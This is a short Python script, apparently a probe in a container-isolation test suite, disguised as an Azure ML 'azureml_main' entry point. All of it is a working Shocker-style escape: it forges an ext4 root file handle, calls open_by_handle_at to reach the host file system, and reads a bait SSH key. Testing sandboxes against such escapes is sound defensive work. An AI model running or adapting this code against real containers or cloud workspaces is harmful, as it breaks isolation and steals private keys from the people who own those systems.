"""Opens the root of the file system by its handle, as the escape named Shocker did, and goes to the ssh key."""

import ctypes
import os
import struct

from attack import BAIT, attack, call, told


class Handle(ctypes.Structure):
    """struct file_handle."""

    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("content", ctypes.c_char * 8)]


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    place = os.open(".", os.O_RDONLY)
    root = Handle(8, 1)
    ctypes.memmove(ctypes.addressof(root) + 8, struct.pack("<II", 2, 0), 8)  # the root of ext4 is inode 2
    opened = call("open_by_handle_at", place, ctypes.byref(root), os.O_RDONLY)
    key = os.open(os.path.relpath(BAIT["ssh_key"], "/"), os.O_RDONLY, dir_fd=opened)
    return told("the ssh key", os.read(key, 200))
